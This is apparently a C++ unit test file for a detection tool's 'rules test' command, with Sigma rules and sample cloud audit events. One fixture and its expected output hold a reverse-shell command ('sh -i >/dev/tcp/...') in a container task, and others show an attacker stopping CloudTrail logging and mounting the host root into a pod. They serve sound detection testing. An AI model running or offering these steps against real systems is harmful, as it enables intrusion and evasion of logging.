// `gatewatch rules test` with Sigma rules about what others recorded.

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_replace.h"
#include "catch2/catch.hpp"
#include "cli/exit_code.h"
#include "tests/unit/cli/run_app.h"

namespace gatewatch::cli {
namespace {

constexpr char kRules[] = R"(---
title: Trail stopped
id: 0a1b
logsource: {product: aws, service: cloudtrail}
detection:
  selection:
    eventSource: cloudtrail.amazonaws.com
    eventName: [StopLogging, DeleteTrail]
    errorCode: null
  filter_main_service:
    userIdentity.type: AWSService
  condition: selection and not 1 of filter_main_*
fields: [awsRegion]
level: high
---
title: Task with a shell
logsource: {product: aws, service: cloudtrail}
detection:
  selection:
    eventName: RegisterTaskDefinition
    requestParameters.containerDefinitions.command|contains: '/dev/tcp/'
    requestParameters|contains|all: ['"privileged":true', '"name":"b"']
  condition: selection
level: critical
---
title: Host path
logsource: {product: kubernetes, service: audit}
detection:
  selection:
    verb: create
    objectRef.resource: pods
    hostPath|contains: '"path":"/"'
    responseStatus.code: '201'
  condition: selection
level: medium
---
title: Stack trace
logsource: {category: application, product: python}
detection:
  keywords: ['DataError', 'IntegrityError*']
  condition: keywords
level: low
)";

constexpr char kStopped[] =
    R"({"eventVersion":"1.08","userIdentity":{"type":"IAMUser",)"
    R"("arn":"arn:aws:iam::1:user/eve"},"eventSource":)"
    R"("cloudtrail.amazonaws.com","eventName":"StopLogging",)"
    R"("awsRegion":"eu-west-1","sourceIPAddress":"203.0.113.9",)"
    R"("requestParameters":{"name":"trail"},"responseElements":null})";
constexpr char kTask[] =
    R"({"eventName":"RegisterTaskDefinition","requestParameters":)"
    R"({"containerDefinitions":[{"name":"a","command":["true"]},)"
    R"({"name":"b","privileged":true,"command":["sh","-c",)"
    R"("sh -i >/dev/tcp/203.0.113.9/443"]}]}})";
constexpr char kPod[] =
    R"({"kind":"Event","auditID":"7","verb":"create","user":)"
    R"({"username":"eve","groups":["system:authenticated"]},"objectRef":)"
    R"({"resource":"pods","namespace":"shop","name":"p"},"requestObject":)"
    R"({"spec":{"volumes":[{"name":"t"},{"hostPath":{"path":"/"}}]}},)"
    R"("responseStatus":{"code":201},"sourceIPs":["203.0.113.9"]})";
constexpr char kLog[] =
    R"({"time":"2024-05-31T12:00:00Z","level":"error","exception":)"
    R"({"frames":["a.py","django.db.utils.IntegrityError: x"]}})";

Result Test(const std::string& events, std::vector<const char*> options = {}) {
  const TextFile rules(kRules);
  const TextFile file(events);
  std::vector<const char*> arguments = {"rules", "test", rules.path(),
                                        "--events", file.path()};
  arguments.insert(arguments.end(), options.begin(), options.end());
  Result result = Run(arguments);
  result.err = absl::StrReplaceAll(result.err, {{file.path(), "FILE"}});
  return result;
}

}  // namespace

TEST_CASE("cloud and application logs fire the rules that are about them",
          "[cli]") {
  const Result result =
      Test(absl::StrCat(kStopped, "\n", kTask, "\n\n", kPod, "\n", kLog, "\n"));
  CHECK(result.err.empty());
  CHECK(result.status == kExitOk);
  CHECK_THAT(result.out,
             Catch::StartsWith(
                 "event 1: Trail stopped (error): StopLogging at "
                 "cloudtrail.amazonaws.com by arn:aws:iam::1:user/eve from "
                 "203.0.113.9 (error=<NA>) awsRegion=eu-west-1\n"));
  for (const char* part :
       {"was StopLogging ", "event 2: Task with a shell (critical): ",
        ", sh -i >/dev/tcp/203.0.113.9/443 ",
        "event 4: Host path (warning): create pods shop/p by eve from ",
        "was {\"path\":\"/\"}", "was 201 ", "event 5: Stack trace (notice): {",
        ", django.db.utils.IntegrityError: x "}) {
    CHECK_THAT(result.out, Catch::Contains(part));
  }
  CHECK_THAT(result.out, Catch::EndsWith("4 events, 4 alerts\n"));
}

TEST_CASE("logs that are a little else fire nothing", "[cli]") {
  const auto other = [](const char* event, const char* part, const char* with) {
    REQUIRE(absl::StrContains(event, part));
    return absl::StrReplaceAll(event, {{part, with}}) + "\n";
  };
  const Result result =
      Test(other(kStopped, "IAMUser", "AWSService") +
           other(kStopped, "\"eventVersion\"", "\"errorCode\":\"x\",\"v\"") +
           other(kTask, "/dev/tcp", "/tmp") + other(kPod, "201", "403") +
           other(kPod, "\"path\":\"/\"", "\"path\":\"/srv\"") +
           other(kLog, "Integrity", ""));
  CHECK(result.status == kExitNoMatch);
  CHECK(result.out == "6 events, 0 alerts\n");
}

TEST_CASE("it is told why a log does not fire a rule", "[cli]") {
  const std::string denied = absl::StrReplaceAll(
      kStopped, {{"\"eventVersion\"", "\"errorCode\":\"Denied\",\"v\""}});
  const Result text = Test(absl::StrCat(denied, "\n", kPod, "\n"),
                           {"--why-not", "Trail stopped"});
  CHECK(text.status == kExitNoMatch);
  CHECK_THAT(text.out, Catch::Contains("errorCode") &&
                           Catch::Contains("was Denied") &&
                           Catch::EndsWith("event 1 came nearest\n"));
  const Result json = Test(absl::StrCat(denied, "\n", kStopped, "\n"),
                           {"--why-not", "0a1b", "-o", "json"});
  CHECK(json.status == kExitOk);
  CHECK_THAT(json.out, Catch::StartsWith("{\"event\":1,\"fires\":false,") &&
                           Catch::Contains("\"value\":\"Denied\"") &&
                           Catch::EndsWith("{\"event\":2,\"fires\":true}\n"));
}

TEST_CASE("a line that is no event is told with its number", "[cli]") {
  const std::string good = absl::StrCat(kStopped, "\n");
  for (const auto& [line, error] :
       std::vector<std::pair<std::string, std::string>>{
           {"{\"eventName\":", "FILE:2: not JSON at byte "},
           {"[1]", "FILE:2: not a JSON object"},
           {"{\"a\":\"\xff\"}", "FILE:2: not JSON at byte "},
           {std::string(100'000, '['), "FILE:2: not a JSON object"},
           {std::string(33 << 20, ' '), "FILE:2: is longer than 32 MiB"}}) {
    CAPTURE(error);
    const Result result = Test(good + line + "\n" + good);
    CHECK(result.status == kExitUsage);
    CHECK_THAT(result.err, Catch::StartsWith(error));
  }
  // One of ten megabytes is an event like others.
  const std::string large = absl::StrCat(
      "{\"message\":\"", std::string(10 << 20, 'x'), " DataError\"}");
  CHECK(Test(large).status == kExitOk);
  CHECK_THAT(Test("{\"event\":{\"syscall\":\"execve\",\"x\":1}}").err,
             Catch::StartsWith("FILE:1: "));
}

}  // namespace gatewatch::cli
